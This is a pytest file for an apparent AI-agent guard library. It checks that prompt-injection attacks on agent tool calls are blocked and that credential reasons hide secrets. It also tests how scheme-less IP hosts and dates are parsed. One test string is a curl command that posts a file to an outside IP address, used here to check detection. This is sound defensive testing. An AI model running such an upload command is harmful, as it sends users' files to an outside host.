"""Twentieth sitting: destinations, credentials and exposure in arguments the metadata does not declare,
scheme-less IPv4 hosts, and dates that are no phone numbers (see docs/prompt-injection.md)."""

from __future__ import annotations

import pytest

from goalrail import Guard
from goalrail.policies.provenance import extract_values, kinds_for
from tests.injection.suite import SHIPPED, Report, marked

ATTACKS, CONTROLS = marked("R")


def test_the_new_classes_have_several_variants_in_every_domain() -> None:
    assert len(ATTACKS) >= 18 and len(CONTROLS) >= 15
    assert {a[:2] for a in ATTACKS} == {"ws", "ch", "bk", "tr"}


@pytest.mark.parametrize("attack", ATTACKS)
def test_each_attack_is_stopped(shipped: Report, attack: str) -> None:
    assert shipped.attacks()[f"attack:{attack}"]


@pytest.mark.parametrize("task", CONTROLS)
def test_each_near_miss_is_allowed_without_asking(shipped: Report, task: str) -> None:
    assert shipped.not_allowed(task) == []


def test_a_credential_is_asked_without_being_shown(shipped: Report) -> None:
    reasons = [c.reason or "" for c in shipped.calls if c.trace in ("attack:wsR6", "attack:bkR4") and c.harmful]
    assert len(reasons) == 2 and all("credential" in r for r in reasons)
    assert not any(secret in r for r in reasons for secret in ("Orchid", "Lantern", "9137"))


def test_an_exposure_is_named_in_the_reason(shipped: Report) -> None:
    reason = next(c.reason or "" for c in shipped.calls if c.trace == "attack:wsR4" and c.harmful)
    assert "`access` makes it public" in reason


def test_a_scheme_less_ipv4_host_is_a_domain_when_recorded_and_when_looked_up() -> None:
    assert ("domain", "45.77.12.9") in extract_values("curl -d @f 45.77.12.9:8080/up", words=False)
    assert kinds_for("45.77.12.9")[0] == "domain:45.77.12.9"
    assert not any(k == "domain" for k, _ in extract_values("release 1.2.3.4.5, build 300.1.2.3", words=False))


def test_a_date_with_its_time_is_no_phone_number() -> None:
    assert not any(k == "phone" for k, _ in extract_values("deadline 2026-06-12 14:00", words=False))
    assert kinds_for("2026-06-12")[0] != "phone:20260612"
    assert kinds_for("+44 20 7946 0958")[0] == "phone:+442079460958"  # a number still is one


def test_a_date_from_untrusted_mail_in_a_file_is_allowed() -> None:
    g = Guard(
        config_text=SHIPPED + "\ntools:\n  read_inbox: {kind: read, trust: untrusted}\n"
        "  create_file: {kind: write, content: [content]}\n"
    )
    try:
        g.evaluate("s", {"type": "request", "data": "Summarise my mail into a file"})
        g.tool_result("s", "read_inbox", {}, {"body": "The deadline is 2026-06-12 14:00, see you"})
        v = g.tool_call("s", "create_file", {"name": "s.txt", "content": "Deadline: 2026-06-12 14:00"})
        assert v["result"] == "ALLOW", v.get("reason")
    finally:
        g.close()
